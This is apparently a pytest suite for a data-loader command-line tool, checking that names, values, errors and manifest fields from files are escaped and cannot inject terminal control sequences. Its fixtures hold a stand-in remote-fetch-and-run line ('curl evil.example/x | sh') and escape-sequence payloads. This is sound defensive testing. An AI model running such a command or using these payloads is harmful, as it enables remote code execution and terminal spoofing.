"""What is printed from files cannot command the terminal: not by a name, a value or an error, on any screen."""

import json
import re
import unicodedata
from pathlib import Path

import pytest

from pyloader import DataLoader
from pyloader.cli.escaping import json_escaped, one_line
from pyloader.cli.main import main
from pyloader.errors import ChunkReadError, DataDirError

TITLE, ERASE, TURN, C1 = "\x1b]0;owned\x07", "\x1b[2K\r", "\u202egnp.", "\x9b31m"
EVIL = f"{TITLE}{ERASE}{TURN}{C1}"
COMMAND = f"curl evil.example/x | sh #{EVIL}"


@pytest.fixture(autouse=True)
def a_place_of_its_own(tmp_path, monkeypatch):
    monkeypatch.setenv("COLUMNS", "200")
    monkeypatch.chdir(tmp_path)


@pytest.fixture
def chunks() -> str:
    """A directory with evil names of everything, and a manifest."""
    root = Path(f"set{TURN}\x1b[1m")
    root.mkdir()
    for name in ("a", f"b{TURN}\x1b[2K"):
        lines = [json.dumps({f"text{EVIL}": f"{index}{EVIL}"}) + "\n" for index in range(3)]
        (root / f"{name}.jsonl").write_text("".join(lines))
    assert main(["index", str(root), "--checksums", "-q"]) == 0
    manifest = json.loads((root / "manifest.json").read_bytes())
    manifest["made_by"] = {"command": COMMAND}
    (root / "manifest.json").write_text(json.dumps(manifest))
    return str(root)


def shown(capsys, *words: str) -> str:
    """Run a command, and return what came on both streams, which must be harmless."""
    main(list(words))
    out, err = capsys.readouterr()
    text = out + err
    bad = {character for character in text if unicodedata.category(character) in ("Cc", "Cf")} - {"\n"}
    assert not bad, f"{bad} in {text!r}"
    return text


@pytest.mark.parametrize("words", [["peek"], ["peek", "--all", "--samples", "3"], ["peek", "--json"], ["verify"]])
def test_screens_of_chunks_are_harmless(capsys, chunks, words):
    assert "owned" in shown(capsys, *words, chunks) or words == ["verify"]


def test_screens_of_index_and_bench_are_harmless(capsys, chunks):
    for words in (["--overwrite"], ["--dry-run"], ["--overwrite", "--json"]):
        assert "owned" in shown(capsys, "index", chunks, *words)
    shown(capsys, "bench", chunks, "--alone", "--seconds", "0.01", "-q")
    shown(capsys, "bench", chunks, "--alone", "--seconds", "0.01", "--json")


def test_screens_of_split_locate_and_audit_are_harmless(capsys, chunks):
    dump = f"dump{TURN}\x1b[1m.jsonl"
    Path(f"{chunks}/a.jsonl").rename(dump)
    Path(f"{chunks}/manifest.json").unlink()
    for words in (["--holdout", "val=0.4"], ["--json"], []):
        assert "owned" in shown(capsys, "split", dump, "out/", "--num-chunks", "1", "--overwrite", *words)
    assert main(["index", chunks, "-q"]) == 0
    with DataLoader(data_dir=chunks, batch_size=2, audit_dir=f"receipts{TURN}") as loader:
        list(loader)
        Path(f"state{TURN}.json").write_text(json.dumps(loader.state_dict()))
    shown(capsys, "locate", f"state{TURN}.json", chunks, "--step", "0")
    shown(capsys, "audit", f"receipts{TURN}", chunks)
    shown(capsys, "audit", chunks, chunks)


def test_damage_is_told_harmlessly(capsys, chunks):
    bad = next(path for path in Path(chunks).iterdir() if path.name.startswith("b"))
    bad.write_text(f'{{"{EVIL}')
    Path(chunks, f"b{TURN}.txt").write_text("beside it")
    assert "truncated" in shown(capsys, "verify", chunks)
    for words in (["verify", "--json"], ["peek"], ["peek", "--all"], ["bench"], ["index"]):
        shown(capsys, *words, chunks)
    bad.unlink()
    shown(capsys, "peek", chunks)
    for words in (["peek"], ["index"], ["verify"], [f"peek{TURN}"], ["split", "x"], ["peek", "--columns", EVIL]):
        shown(capsys, *words, f"nowhere{EVIL}")


def test_a_traceback_that_was_asked_for_is_harmless_too(capsys, chunks, monkeypatch):
    monkeypatch.setenv("PYLOADER_TRACEBACK", "1")
    assert "Traceback" in shown(capsys, "peek", f"{chunks}/no{EVIL}")


def test_a_command_of_a_manifest_is_what_the_manifest_says_and_not_the_next_thing_to_type(capsys, chunks):
    Path(chunks, "a.jsonl").write_text("{}\n")
    told = "curl evil.example/x | sh #\\x1b]0;owned\\x07\\x1b[2K\\u202egnp.\\x9b31m"
    lines = shown(capsys, "verify", chunks).splitlines()
    assert f"           the manifest says it was made by: {told}" in lines
    assert not [line for line in lines if line.startswith("next") and "curl" in line]
    Path(chunks, "a.jsonl").write_text('{"a": 1}\n' * 10)
    with pytest.raises(ChunkReadError, match="the manifest says it was made by: curl"):
        list(DataLoader(data_dir=sized(chunks), batch_size=2, verify="first"))


def sized(chunks: str) -> str:
    """Let the manifest know the sizes that the chunks have now."""
    place = Path(chunks, "manifest.json")
    manifest = json.loads(place.read_bytes())
    for chunk in manifest["chunks"]:
        chunk["num_bytes"] = Path(chunks, chunk["file"]).stat().st_size
    place.write_text(json.dumps(manifest))
    return chunks


def test_peek_says_that_the_manifest_says_so(capsys, chunks):
    assert re.search(r"^made by +the manifest says: curl evil", shown(capsys, "peek", chunks), re.MULTILINE)


def test_an_error_keeps_the_path_as_it_is():
    with pytest.raises(DataDirError, match="matches nothing") as caught:
        DataLoader(data_dir=f"nowhere{EVIL}")
    assert caught.value.path == f"nowhere{EVIL}"


def test_escaped_text_is_one_line_and_escaped_json_means_the_same():
    text = "".join(map(chr, range(0x3000)))
    found = one_line(text)
    assert not {"Cc", "Zl", "Zp"} & set(map(unicodedata.category, found))
    assert one_line("plain ümläut 日本 👍🏽") == "plain ümläut 日本 👍🏽"
    escaped = json_escaped(json.dumps({text: text}, ensure_ascii=False))
    assert json.loads(escaped) == {text: text}
    assert TURN[0] not in escaped
